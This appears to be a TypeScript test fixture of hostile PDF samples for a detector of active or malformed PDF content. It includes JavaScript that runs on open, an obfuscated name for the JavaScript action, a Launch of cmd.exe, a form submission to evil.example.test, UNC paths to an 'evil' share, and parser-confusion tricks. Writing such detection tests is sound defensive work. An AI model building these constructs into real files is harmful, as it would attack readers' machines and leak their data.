import { handWritten, objectStream, onePage, updated } from "../pdfs.ts";
import {
  type HostileFile,
  hiddenInStream,
  join,
  latin,
  withCatalog,
  withLink,
  withPage,
} from "./tools.ts";

const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
export const active: readonly HostileFile[] = [
  {
    title: "a script when the document opens",
    expected: "pdfActive",
    bytes: () => withCatalog(`/OpenAction ${script}`),
  },
  {
    title: "a script in the tree of names",
    expected: "pdfActive",
    bytes: () => withCatalog(`/Names << /JavaScript << /Names [(a) 4 0 R] >> >>`, script),
  },
  {
    title: "a script when a page opens",
    expected: "pdfActive",
    bytes: () => withPage(`/AA << /O ${script} >>`),
  },
  { title: "a script behind a link", expected: "pdfActive", bytes: () => withLink(script) },
  {
    title: "a script under a disguised name",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /J#61va#53cript /#4aS (app.alert) >>"),
  },
  {
    title: "a script whose kind stands in another object",
    expected: "pdfActive",
    bytes: () => withCatalog("/X << /S 4 0 R >>", "/JavaScript"),
  },
  {
    title: "a script that nothing refers to, in a stream of objects",
    expected: "pdfActive",
    bytes: () => withCatalog("", objectStream(5, [script])),
  },
  {
    title: "a script in a version that a later one replaced",
    expected: "pdfActive",
    bytes: () => updated(withCatalog("", script), { 4: "null" }),
  },
  {
    title: "an object hidden in a stream that only the table knows",
    expected: "pdfBroken",
    bytes: hiddenInStream,
  },
  {
    title: "an object in front of the document",
    expected: "pdfBroken",
    bytes: () => join(`5 0 obj\n${script}\nendobj\n`, handWritten(onePage())),
  },
  {
    title: "an object in a comment",
    expected: "pdfBroken",
    bytes: () => withCatalog("", `null % 5 0 obj ${script} endobj`),
  },
  {
    title: "an object in a text, its number far from its word",
    expected: "pdfBroken",
    bytes: () => withCatalog("", `(5 0 %x\n%y\n obj ${script} endobj)`),
  },
  {
    title: "a script behind the end of the document",
    expected: "pdfActive",
    bytes: () => join(handWritten(onePage()), `5 0 obj\n${script}\nendobj\n`),
  },
  {
    title: "a program to launch, and a web address under the same key",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /Launch /F (cmd.exe) /S /URI /URI (https://rukun.example) >>"),
  },
  {
    title: "the same in a stream of objects",
    expected: "pdfActive",
    bytes: () => withCatalog("", objectStream(5, ["<< /S /URI /F (cmd.exe) /S /GoTo >>"])),
  },
  {
    title: "two ways to open, of which the first is a web address",
    expected: "pdfActive",
    bytes: () =>
      withCatalog(
        "/OpenAction << /S /URI /URI (https://evil.example.test) >> /OpenAction [3 0 R /Fit]",
      ),
  },
  {
    title: "a page whose content lies on somebody's server",
    expected: "pdfActive",
    bytes: () =>
      withPage("/Contents 4 0 R", {
        dict: "/F (\\\\\\\\evil\\\\share)",
        stream: latin(""),
      }),
  },
  {
    title: "a program to launch",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /Launch /F (cmd.exe) >>"),
  },
  {
    title: "a form that sends itself",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /SubmitForm /F (https://evil.example.test) >>"),
  },
  {
    title: "data to import",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /ImportData /F (data.fdf) >>"),
  },
  {
    title: "a jump into another file",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>"),
  },
  {
    title: "a jump into an embedded file",
    expected: "pdfActive",
    bytes: () => withLink("<< /S /GoToE /D (a) >>"),
  },
  {
    title: "a web address that opens by itself",
    expected: "pdfActive",
    bytes: () => withCatalog("/OpenAction 4 0 R", "<< /S /URI /URI (https://evil.example.test) >>"),
  },
  {
    title: "a page that prints itself",
    expected: "pdfActive",
    bytes: () => withCatalog("/OpenAction << /S /Named /N /Print >>"),
  },
  {
    title: "a film",
    expected: "pdfActive",
    bytes: () =>
      withPage("/Annots [4 0 R]", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
  },
  {
    title: "a form of the XML kind",
    expected: "pdfActive",
    bytes: () =>
      withCatalog("/AcroForm << /Fields [] /XFA 4 0 R >>", { dict: "", stream: latin("<xdp/>") }),
  },
];
